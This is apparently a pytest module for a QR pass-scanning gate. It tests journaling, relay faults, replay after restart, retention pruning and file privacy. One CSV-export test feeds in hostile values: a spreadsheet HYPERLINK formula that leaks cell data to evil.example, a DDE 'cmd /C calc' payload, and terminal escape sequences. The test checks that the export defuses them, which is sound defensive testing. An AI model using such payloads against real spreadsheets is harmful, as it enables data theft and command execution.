"""The README's promises, attacked at the gate's own level (issue 11).

A real journal on disk, a scripted validator, relays that count what they did.
The end-to-end versions (kiosk process, local server, pty devices, tmpfs) are in
``tests/functional/test_promises.py``.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sqlite3
import time
from datetime import timedelta
from pathlib import Path

import pytest

from scanner.api import PassQRClient
from scanner.budget import Budget
from scanner.config import GateConfig
from scanner.errors import APITimeoutError
from scanner.journal import INTERRUPTED_ASKED, Journal
from scanner.metrics import Metrics
from scanner.models import (
    Decision,
    RawScan,
    Reason,
    Scan,
    ValidationOutcome,
    ValidationResult,
    utcnow,
)
from scanner.offline import Replayer
from scanner.payload import printable
from scanner.pipeline import DOOR_FAULT_TEXT, Gate
from scanner.relay import NoRelay
from scanner.status import ServerState
from tests.support.fakes import FakeClient
from tests.support.waiting import eventually
from tests.unit.test_pipeline import ScriptedValidator, valid


def raw(text: str) -> RawScan:
    return RawScan(source="test", text=text, at=time.monotonic())


def rows(path: Path) -> list[dict[str, object]]:
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in conn.execute("SELECT * FROM scans ORDER BY id")]
    finally:
        conn.close()


def make_gate(journal: Journal, relay: NoRelay, validator: object, **kw: object) -> Gate:
    return Gate(
        config=GateConfig(name="Promise gate", repeat_ignore_s=0.0),
        validator=validator,  # type: ignore[arg-type]
        journal=journal,
        relay=relay,
        **kw,  # type: ignore[arg-type]
    )


# -- no lost scan -------------------------------------------------------------------------


async def test_every_scan_read_is_journaled_before_it_waits_its_turn(
    journal: Journal, relay: NoRelay, tmp_path: Path
) -> None:
    validator = ScriptedValidator()
    validator.gate = asyncio.Event()  # the first validation hangs
    gate = make_gate(journal, relay, validator)
    codes = [f"PASS-AAAA000{i}" for i in range(5)]
    tasks = [gate.submit(raw(code)) for code in codes]
    await eventually(lambda: len(rows(tmp_path / "journal.sqlite3")) == 5)
    await eventually(lambda: len(validator.calls) == 1)
    assert len(rows(tmp_path / "journal.sqlite3")) == 5
    assert len(validator.calls) == 1, "four scans are still queued behind the first"
    assert [r["code"] for r in rows(tmp_path / "journal.sqlite3")] == codes, "arrival order"
    validator.gate.set()
    await asyncio.gather(*[t for t in tasks if t is not None])
    assert all(r["decision"] for r in rows(tmp_path / "journal.sqlite3"))


async def test_a_restart_tells_unasked_from_asked_scans(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    first = Journal(path)
    await first.open()
    for n, code in enumerate(("PASS-QUEUED01", "PASS-ASKED001")):
        scan = Scan(id=f"id-{n}", ts=utcnow(), gate="g", source="s", raw=code, code=code)
        await first.record_scan(scan)
    await first.mark_asked("id-1")
    await first.close()  # as if killed: no decision for either

    second = Journal(path)
    await second.open()
    await second.close()
    queued, asked = rows(path)
    assert (queued["decision"], queued["message"], queued["replay_state"]) == (
        "rejected",
        "Interrupted",
        None,
    )
    assert "nothing was used" in str(queued["detail"])
    assert (asked["decision"], asked["message"], asked["replay_state"]) == (
        "rejected",
        INTERRUPTED_ASKED,
        "reconcile",
    )


class ReconcileClient(FakeClient):
    """The two calls the reconciler makes, scripted."""

    def __init__(self, honours: bool, outcome: ValidationOutcome) -> None:
        super().__init__(
            default=ValidationResult(outcome=outcome, result=outcome.value, message=""),
            honours=honours,
        )


async def interrupted_after_asking(path: Path, scan_id: str = "scan-1") -> None:
    j = Journal(path)
    await j.open()
    scan = Scan(id=scan_id, ts=utcnow(), gate="g", source="s", raw="x", code="PASS-AAAA0001")
    await j.record_scan(scan)
    await j.mark_asked(scan_id)
    await j.close()


@pytest.mark.parametrize(
    ("honours", "outcome", "state"),
    [
        (True, ValidationOutcome.VALID, "counted"),
        (True, ValidationOutcome.USED, "done"),
        (False, ValidationOutcome.VALID, "unverified"),
    ],
)
async def test_an_interrupted_scan_is_settled_with_its_own_key(
    tmp_path: Path, honours: bool, outcome: ValidationOutcome, state: str
) -> None:
    path = tmp_path / "journal.sqlite3"
    await interrupted_after_asking(path)
    journal = Journal(path)
    await journal.open()
    client = ReconcileClient(honours, outcome)
    replayer = Replayer(client, journal, Budget())
    try:
        assert await replayer.replay_once()
        assert replayer.status.for_staff == (0 if state == "done" else 1)
    finally:
        await journal.close()
    (row,) = rows(path)
    assert row["replay_state"] == state
    assert row["decision"] == "rejected", "the door did not open: never recorded as admitted"
    if honours:
        assert client.calls == [("PASS-AAAA0001", "scan-1")], "asked again with the same key"
    else:
        assert client.calls == [], "a server without idempotency would count a second use"
        assert "may have been used" in str(row["detail"])


async def test_the_idempotency_answer_is_remembered_across_restarts(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    for run in range(2):
        await interrupted_after_asking(path, f"scan-{run}")
        journal = Journal(path)
        await journal.open()
        client = ReconcileClient(True, ValidationOutcome.USED)
        try:
            await Replayer(client, journal, Budget()).replay_once()
        finally:
            await journal.close()
    assert client.probes == 0, "the second run knew the server from the journal"


# -- no admission without its row ----------------------------------------------------------


class FullDiskJournal(Journal):
    """A journal whose decision rows no longer fit (SQLITE_FULL)."""

    async def record_decision(self, decision: Decision, decided_ts: object) -> None:
        raise sqlite3.OperationalError("database or disk is full")


async def test_a_decision_that_cannot_be_journaled_never_moves_the_relay(
    tmp_path: Path, relay: NoRelay
) -> None:
    journal = FullDiskJournal(tmp_path / "journal.sqlite3")
    await journal.open()
    validator = ScriptedValidator()
    validator.answers["PASS-AAAA0001"] = valid()
    gate = make_gate(journal, relay, validator)
    try:
        task = gate.submit(raw("PASS-AAAA0001"))
        assert task is not None
        decision = await task
    finally:
        await journal.close()
    assert not decision.accepted
    assert relay.pulses == 0
    assert "admit by hand" in decision.detail
    assert gate.status.journal_fault
    (row,) = rows(tmp_path / "journal.sqlite3")
    assert row["asked"] == 1, "the next start settles it: the server counted a use"


async def test_below_the_disk_reserve_nothing_is_sent(journal: Journal, relay: NoRelay) -> None:
    validator = ScriptedValidator()
    validator.answers["PASS-AAAA0001"] = valid()
    gate = make_gate(journal, relay, validator, min_free_bytes=2**62)
    task = gate.submit(raw("PASS-AAAA0001"))
    assert task is not None
    decision = await task
    assert (decision.accepted, decision.reason) == (False, Reason.ERROR)
    assert decision.message == "Scanner out of service"
    assert "journal.min_free_kb" in decision.detail
    assert validator.calls == [], "no use may be counted for a scan whose row might not fit"
    assert relay.pulses == 0
    gate.min_free_bytes = 0
    task = gate.submit(raw("PASS-AAAA0001"))
    assert task is not None
    assert (await task).accepted, "it resumes by itself once there is room"
    assert not gate.status.journal_fault


# -- the door -------------------------------------------------------------------------------


class BrokenRelay(NoRelay):
    def _switch(self, on: bool) -> None:
        if on:
            raise OSError("port /dev/passqr-relay vanished")


async def test_a_relay_fault_is_part_of_the_admission(journal: Journal, tmp_path: Path) -> None:
    relay = BrokenRelay(pulse_ms=20)
    await relay.start()
    validator = ScriptedValidator()
    validator.answers["PASS-AAAA0001"] = valid()
    gate = make_gate(journal, relay, validator)
    try:
        task = gate.submit(raw("PASS-AAAA0001"))
        assert task is not None
        decision = await task
    finally:
        await relay.close()
    assert decision.accepted, "the server counted it: it is an admission"
    assert decision.relay_fault and "vanished" in decision.relay_fault
    assert decision.message == DOOR_FAULT_TEXT
    assert decision.to_json()["relay_fault"] == decision.relay_fault
    assert gate.status.relay_faults == 1
    metrics = Metrics()
    metrics.observe(decision)
    assert "passqr_relay_faults_total 1.0" in metrics.render()
    (row,) = rows(tmp_path / "journal.sqlite3")
    assert row["relay_fault"] == decision.relay_fault


# -- no double admission ---------------------------------------------------------------------


async def test_a_pass_admitted_offline_is_not_asked_online_before_its_upload(
    journal: Journal, relay: NoRelay
) -> None:
    validator = ScriptedValidator()
    validator.answers["PASS-AAAA0001"] = valid()
    uploads: list[str] = []
    reachable = False

    async def replay_code(code: str) -> bool:
        uploads.append(code)
        return reachable

    gate = make_gate(journal, relay, validator, policy="allow-known", replay_code=replay_code)
    scan = Scan(id="offline-1", ts=utcnow(), gate="g", source="s", raw="x", code="PASS-AAAA0001")
    await journal.record_scan(scan)
    await journal.record_decision(
        Decision(scan=scan, accepted=True, reason=Reason.VALID, message="", offline=True),
        utcnow(),
    )
    task = gate.submit(raw("PASS-AAAA0001"))
    assert task is not None
    decision = await task
    assert not decision.accepted and decision.reason is Reason.USED
    assert validator.calls == [], "asking now would admit the pass a second time"
    assert uploads == ["PASS-AAAA0001"], "the pending upload was tried first"


async def test_a_live_answer_after_an_outage_wakes_the_replayer(
    journal: Journal, relay: NoRelay
) -> None:
    woken: list[bool] = []
    validator = ScriptedValidator()
    validator.answers["PASS-AAAA0001"] = valid()
    gate = make_gate(journal, relay, validator, on_server_back=lambda: woken.append(True))
    gate.status.server = ServerState.UNREACHABLE
    task = gate.submit(raw("PASS-AAAA0001"))
    assert task is not None
    await task
    assert woken == [True]


async def test_an_old_probe_answer_does_not_hide_a_newer_fault(
    journal: Journal, relay: NoRelay
) -> None:
    """The cause of the flaky fault test: a slow start-up probe said OK last."""
    validator = ScriptedValidator()
    validator.answers["PASS-AAAA0001"] = ServerErrorAnswer()
    gate = make_gate(journal, relay, validator)
    probe_sent = gate.now()
    task = gate.submit(raw("PASS-AAAA0001"))
    assert task is not None
    await task
    assert server_state(gate) is ServerState.FAULT
    gate.note_server(ServerState.OK, asked_at=probe_sent)
    assert server_state(gate) is ServerState.FAULT
    gate.note_server(ServerState.OK, asked_at=gate.now())
    assert server_state(gate) is ServerState.OK


def server_state(gate: Gate) -> ServerState:
    """Read afresh (mypy would keep the narrowing of ``gate.status.server`` across calls)."""
    return gate.status.server


def ServerErrorAnswer() -> Exception:  # noqa: N802 - reads as the answer it stands for
    from scanner.errors import ServerError

    return ServerError("boom", status=500)


# -- bounded waits -----------------------------------------------------------------------------


async def test_a_dripping_answer_meets_one_total_deadline() -> None:
    """httpx's timeouts are per read: a byte a second never trips them."""

    async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n"
        )
        try:
            for _ in range(200):
                writer.write(b" ")
                await writer.drain()
                await asyncio.sleep(0.2)
        except ConnectionError:
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(drip, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    client = PassQRClient(f"http://127.0.0.1:{port}/api/v1", "pqr_live_" + "k" * 40, timeout_s=0.5)
    try:
        started = time.monotonic()
        with pytest.raises(APITimeoutError) as info:
            await client.validate("PASS-AAAA0001", idempotency_key="k1")
        took = time.monotonic() - started
    finally:
        await client.aclose()
        server.close()
        await server.wait_closed()
    assert took < 3.0, f"held {took:.1f} s by a 0.5 s timeout"
    assert info.value.maybe_delivered, "the request was sent: a retry must reuse the key"


# -- retention and exports ----------------------------------------------------------------------


async def test_retention_prunes_old_rows_but_never_staffs_open_cases(journal: Journal) -> None:
    old = utcnow() - timedelta(days=100)
    for n, state in enumerate((None, "done", "pending", "conflict", "counted", "unverified")):
        scan = Scan(id=f"old-{n}", ts=old, gate="g", source="s", raw="x", code="PASS-AAAA0001")
        await journal.record_scan(scan)
        await journal.record_decision(
            Decision(scan=scan, accepted=False, reason=Reason.USED, message=""), old
        )
        if state:
            await journal.finish_replay(f"old-{n}", state, "x")
    fresh = Scan(id="new", ts=utcnow(), gate="g", source="s", raw="x", code="PASS-AAAA0001")
    await journal.record_scan(fresh)  # undecided: never pruned either
    deleted = await journal.prune(keep_days=90, max_rows=1_000_000, now=utcnow())
    assert deleted == 2
    left = {r["scan_id"] for r in await journal.recent(50)}
    assert left == {"old-2", "old-3", "old-4", "old-5", "new"}
    assert await journal.prune(keep_days=0, max_rows=1000, now=utcnow()) == 0


async def test_row_cap_prunes_the_oldest_decided_rows(journal: Journal) -> None:
    for n in range(12):
        scan = Scan(id=f"s-{n}", ts=utcnow(), gate="g", source="s", raw="x", code=None)
        await journal.record_scan(scan)
        await journal.record_decision(
            Decision(scan=scan, accepted=False, reason=Reason.INVALID_PAYLOAD, message=""),
            utcnow(),
        )
    assert await journal.prune(keep_days=0, max_rows=10, now=utcnow()) == 2
    assert [r["scan_id"] for r in await journal.recent(50)][-1] == "s-2"


async def test_csv_export_defuses_formulas_and_terminal_escapes(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    journal = Journal(path)
    await journal.open()
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    scan = Scan(id="s", ts=utcnow(), gate="g", source="s", raw="@SUM(1)", code=None)
    await journal.record_scan(scan)
    await journal.record_decision(
        Decision(
            scan=scan,
            accepted=False,
            reason=Reason.NOT_FOUND,
            message="+cmd|' /C calc'!A0",
            holder=hostile + "\x1b]0;pwned\x07\u009b31m",
            latency_ms=-1.5,
        ),
        utcnow(),
    )
    await journal.close()
    reader = Journal(path)
    reader.open_sync()
    try:
        text = "".join(reader.export_sync("csv"))
    finally:
        reader.close_sync()
    assert "\x1b" not in text and "\x07" not in text and "\u009b" not in text
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["holder"].startswith("'=HYPERLINK(")
    assert "\\x1b]0;pwned\\x07\\x9b31m" in row["holder"]
    assert row["raw"] == "'@SUM(1)"
    assert row["message"] == "'+cmd|' /C calc'!A0"
    assert row["latency_ms"] == "-1.5", "a number is a value, not a formula"


def test_bidi_overrides_are_shown_as_unicode_escapes() -> None:
    assert printable("PASS-\u202eABC") == "PASS-\\u202eABC"
    assert printable("a\x1bb") == "a\\x1bb"


async def test_the_journal_is_private_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        journal = Journal(tmp_path / "state" / "journal.sqlite3")
        await journal.open()
        scan = Scan(id="s", ts=utcnow(), gate="g", source="s", raw="x", code=None)
        await journal.record_scan(scan)
        await journal.close()
    finally:
        os.umask(old)
    for path in (tmp_path / "state").iterdir():
        assert path.stat().st_mode & 0o077 == 0, f"{path.name} is readable by others"
    assert (tmp_path / "state").stat().st_mode & 0o077 == 0
